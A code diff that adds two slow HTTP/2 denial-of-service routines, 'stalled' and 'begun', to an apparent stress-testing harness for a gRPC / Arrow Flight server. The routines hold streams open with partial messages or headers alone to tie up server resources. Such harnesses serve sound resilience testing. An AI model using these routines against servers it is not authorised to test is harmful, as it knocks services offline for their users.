@@ -18,6 +18,7 @@ import threading
 import time
 from collections import Counter
 from collections.abc import Callable
+from contextlib import suppress
 from dataclasses import dataclass, field
 from typing import TypeAlias
 
@@ -255,8 +256,44 @@ def slow(target: Target, size: int, until: float) -> None:
                 target.counts["read"] += len(connection.recv(64))
 
 
+def stalled(target: Target, size: int, until: float) -> None:
+    """`size` connections with 60 calls each, of which nearly 1 MiB comes, and the rest never."""
+    part = (b"\0" + struct.pack(">I", 8_000_000) + b"x" * ((1 << 20) - 5))[: 1 << 20]
+    frames = [part[at : at + (1 << 14)] for at in range(0, len(part), 1 << 14)]
+
+    def send(connection: socket.socket, stream: int) -> int:
+        if stream < 120:
+            connection.sendall(frame(HEADERS, END_HEADERS, stream, target.headers("DoAction")))
+            for data in frames:
+                connection.sendall(frame(DATA, 0, stream, data))
+                drain(connection, target.counts)
+            target.counts["calls"] += 1
+            return stream + 2
+        time.sleep(0.05)
+        return stream
+
+    again_and_again(target, size, until, send)
+
+
+def begun(target: Target, size: int, until: float) -> None:
+    """`size` connections with 64 calls each of which the headers come, and nothing more."""
+    connections = []
+    for _ in range(size):
+        connection = target.connect()
+        for stream in range(1, 129, 2):
+            connection.sendall(frame(HEADERS, END_HEADERS, stream, target.headers("GetFlightInfo")))
+            target.counts["calls"] += 1
+        connections.append(connection)
+    while time.monotonic() < until:
+        time.sleep(0.1)
+        for connection in connections:
+            with suppress(EndedError, OSError):
+                drain(connection, target.counts)
+
+
 ATTACKS = {
-    attack.__name__: attack for attack in (half_open, silent, resets, paced_resets, pings, headers, slow)
+    attack.__name__: attack
+    for attack in (half_open, silent, resets, paced_resets, pings, headers, slow, stalled, begun)
 }
 
 
